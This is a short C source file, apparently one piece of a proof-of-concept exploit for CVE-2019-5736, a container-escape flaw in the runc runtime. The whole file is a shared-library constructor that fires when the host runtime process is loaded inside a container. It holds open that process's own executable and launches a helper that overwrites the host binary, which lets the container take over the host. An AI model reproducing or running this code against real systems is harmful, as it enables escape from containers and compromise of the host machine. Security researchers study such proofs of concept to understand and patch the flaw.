/* A library of the container's, for CVE-2019-5736: a program of the host that is run inside loads it. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void hold(void)
{
	char name[256] = "";

	if (readlink("/proc/self/exe", name, sizeof(name) - 1) < 0 || !strstr(name, "nsinit"))
		return;
	dup2(open("/proc/self/exe", O_RDONLY), 50);
	creat("/held", 0666);
	execl("/bin/inside", "inside", "overwrite", "50", NULL);
	_exit(1);
}
